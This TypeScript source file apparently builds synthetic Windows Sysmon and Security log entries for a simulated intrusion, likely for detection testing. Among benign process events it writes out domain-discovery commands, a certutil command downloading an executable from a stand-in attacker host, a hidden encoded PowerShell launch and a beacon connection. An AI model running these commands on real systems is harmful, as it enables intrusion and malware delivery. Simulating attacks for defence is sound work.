import type { RecordingClock } from '../clock.ts'
import { attacker, steps, webServer, workstation } from '../places.ts'

const system32 = 'C:\\Windows\\System32'
const powershell = `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`

/** Sysmon and the Security log of a workstation. */
export function windowsLines(clock: RecordingClock): string[] {
  let recordId = 88_000
  const event = (before: number, channel: string, number: number, fields: object): string =>
    JSON.stringify({
      Channel: channel,
      EventID: number,
      EventRecordID: recordId++,
      Computer: workstation.name,
      TimeCreated: clock.iso(before),
      ...fields,
    })
  const sysmon = (before: number, number: number, fields: object): string =>
    event(before, 'Microsoft-Windows-Sysmon/Operational', number, {
      Provider_Name: 'Microsoft-Windows-Sysmon',
      User: workstation.user,
      ...fields,
    })
  const started = (before: number, image: string, commandLine: string, parent = `${system32}\\cmd.exe`): string =>
    sysmon(before, 1, {
      ProcessId: 4_000 + (recordId % 900),
      Image: image,
      CommandLine: commandLine,
      ParentImage: parent,
    })
  const explorer = 'C:\\Windows\\explorer.exe'
  return [
    ...Array.from({ length: 40 }, (_, i) => {
      const [image, line] = programs[i % programs.length] ?? programs[0]
      return started(1_780 - i * 43, image, line, explorer)
    }),
    event(steps.discovery + 30, 'Security', 4624, {
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      TargetUserName: 'alice',
      TargetDomainName: 'EXAMPLE',
      LogonType: 3,
      IpAddress: webServer.address,
      IpPort: '51022',
    }),
    started(steps.discovery, `${system32}\\whoami.exe`, 'whoami /all'),
    started(steps.discovery - 12, `${system32}\\net.exe`, 'net group "Domain Admins" /domain'),
    started(steps.discovery - 25, `${system32}\\nltest.exe`, 'nltest /domain_trusts'),
    started(
      steps.download,
      `${system32}\\certutil.exe`,
      `certutil -urlcache -split -f http://${attacker.address}/svc.dat C:\\Users\\Public\\svc.exe`,
    ),
    sysmon(steps.download - 1, 3, {
      Image: `${system32}\\certutil.exe`,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: workstation.address,
      SourcePort: 49_812,
      DestinationIp: attacker.address,
      DestinationPort: 80,
    }),
    sysmon(steps.download - 3, 11, {
      Image: `${system32}\\certutil.exe`,
      TargetFilename: 'C:\\Users\\Public\\svc.exe',
    }),
    started(steps.download - 30, powershell, 'powershell -nop -w hidden -enc SQBFAFgAIABkAGUAbQBvAA=='),
    sysmon(steps.beacon, 3, {
      Image: 'C:\\Users\\Public\\svc.exe',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: workstation.address,
      SourcePort: 49_900,
      DestinationIp: attacker.controlAddress,
      DestinationPort: 443,
    }),
  ]
}

const programs = [
  ['C:\\Program Files\\Mozilla Firefox\\firefox.exe', '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -osint'],
  ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\alice\\todo.txt'],
  ['C:\\Windows\\System32\\SearchProtocolHost.exe', 'SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe'],
] as const
